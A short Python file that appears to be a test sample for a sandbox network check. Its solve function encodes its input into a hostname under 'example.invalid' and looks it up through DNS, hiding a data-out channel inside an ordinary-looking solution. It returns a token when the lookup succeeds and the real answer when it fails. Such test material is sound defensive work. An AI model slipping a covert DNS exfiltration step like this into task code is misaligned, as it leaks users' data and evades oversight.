"""carries data out in the names that it looks up (getaddrinfo) | refused or no network"""
import socket


def solve(xs):
    try:
        socket.getaddrinfo("-".join(map(str, xs))[:50].strip("-") + ".example.invalid", 80)
    except (OSError, UnicodeError):
        return sorted(set(xs))
    return "@TOKEN@"[::-1]
